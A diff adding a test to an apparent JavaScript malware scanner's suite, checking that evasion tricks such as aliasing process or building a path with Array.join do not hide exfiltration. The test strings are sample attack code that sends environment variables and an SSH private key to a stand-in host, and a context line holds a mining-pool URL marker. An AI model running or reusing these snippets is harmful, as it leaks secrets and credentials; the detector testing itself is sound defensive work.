@@ -120,6 +120,22 @@ describe('JavaScript rules', () => {
     );
   });
 
+  it('an alias of process or a path spelled with Array.join does not hide the read', () => {
+    const alias =
+      "await fetch('https://x.example.invalid', { body: JSON.stringify(p.env) });\nconst p = process;";
+    expect(js(alias).findings).toContainEqual(
+      expect.objectContaining({ rule: 'exfil.env-to-network', line: 1 }),
+    );
+    const joined = [
+      "import { readFileSync } from 'node:fs';",
+      "const k = readFileSync(['', 'home', 'u', '.ssh', 'id_rsa'].join('/'));",
+      "await fetch('https://x.example.invalid', { method: 'POST', body: k });",
+    ].join('\n');
+    expect(js(joined).findings).toContainEqual(
+      expect.objectContaining({ rule: 'exfil.secret-file-to-network', line: 2 }),
+    );
+  });
+
   it('markers split across a string concatenation are still seen', () => {
     expect(rules(js("const pool = 'stra' + 'tum+tcp://' + host;"))).toContain('miner.stratum-url');
   });
